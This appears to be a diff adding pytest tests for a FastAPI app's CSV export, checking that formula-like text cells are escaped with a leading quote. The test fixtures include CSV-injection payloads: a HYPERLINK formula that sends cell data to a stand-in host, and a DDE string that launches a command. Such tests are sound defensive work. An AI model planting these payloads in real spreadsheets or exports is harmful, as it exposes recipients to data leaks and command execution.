@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import UTC, date, datetime
 from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
 from sqlalchemy.orm import Session
 
+from app.models import Action, Owner
 from app.services import csv_export
 from tests.helpers import assert_problem
 from tests.test_action_queries import (
@@ -134,3 +136,83 @@ def test_invalid_filters_are_problems_not_csv(client: TestClient, dataset: Datas
         client.get("/api/v1/actions?status=nope", headers={"Accept": "text/csv"}), 422
     )
     assert body["errors"][0]["field"].startswith("status")
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote(
+    client: TestClient, dataset: Dataset, session: Session
+) -> None:
+    link = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+    texts = {
+        "title": link,
+        "description": "+1+2 more work",
+        "progress_note": "-2+3",
+        "reference": "@SUM(A1:A9)",
+    }
+    first = session.get(Action, dataset.ids[1])  # owned by bob
+    second = session.get(Action, dataset.ids[3])  # owned by bob
+    bob = session.get(Owner, dataset.bob)
+    assert first is not None and second is not None and bob is not None
+    for name, text in texts.items():
+        setattr(first, name, text)
+    second.title = "\tIndented"
+    second.description = "\rCarriage return first"
+    bob.name = "=cmd|' /C calc'!A0"
+    bob.team = "-Team"
+    session.commit()
+
+    rows = {
+        row["id"]: row for row in parse(client.get(f"/api/v1/actions?format=csv&as_of={AS_OF}"))
+    }
+    row, other = rows[str(first.id)], rows[str(second.id)]
+    assert {name: row[name] for name in texts} == {name: "'" + text for name, text in texts.items()}
+    assert row["title"] == "'" + link
+    assert (row["owner_name"], row["owner_team"]) == ("'=cmd|' /C calc'!A0", "'-Team")
+    assert other["title"] == "'\tIndented"
+    assert other["description"] == "'\rCarriage return first"
+    # The JSON keeps the text as written; numbers and dates in the CSV are as they were.
+    item = client.get(f"/api/v1/actions/{first.id}?as_of={AS_OF}").json()
+    assert item["title"] == link
+    assert row["id"] == str(item["id"]) and row["version"] == str(item["version"])
+    assert row["days_overdue"] == str(item["days_overdue"])
+    assert row["due_date"] == (item["due_date"] or "")
+    assert row["updated_at"] == item["updated_at"]
+    # Text with such a character further in is left alone.
+    tricky = next(r for r in rows.values() if "quotes" in r["description"])
+    assert tricky["description"].endswith("line two; =1+2")
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (-3, -3),
+        (2.5, 2.5),
+        (date(2030, 1, 15), "2030-01-15"),
+        (datetime(2030, 1, 15, 9, 30, tzinfo=UTC), "2030-01-15T09:30:00Z"),
+        (True, "true"),
+        (None, ""),
+        ("-3", "'-3"),
+        ("plain = text", "plain = text"),
+        ("", ""),
+    ],
+)
+def test_only_text_cells_are_quoted(value: Any, cell: Any) -> None:
+    assert csv_export._cell(value) == cell
+
+
+def test_each_batch_is_read_in_its_own_read_only_session(
+    client: TestClient, dataset: Dataset, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from app.api import action_queries
+    from app.db import new_session
+
+    opened: list[bool] = []
+
+    def spy(*, read_only: bool = False) -> Session:
+        opened.append(read_only)
+        return new_session(read_only=read_only)
+
+    monkeypatch.setattr(action_queries, "new_session", spy)
+    monkeypatch.setattr(csv_export, "BATCH_SIZE", 4)
+    rows = parse(client.get("/api/v1/actions?format=csv"))
+    assert len(rows) == 23
+    assert opened == [True] * 6  # 23 rows in batches of 4: one short read-only session each
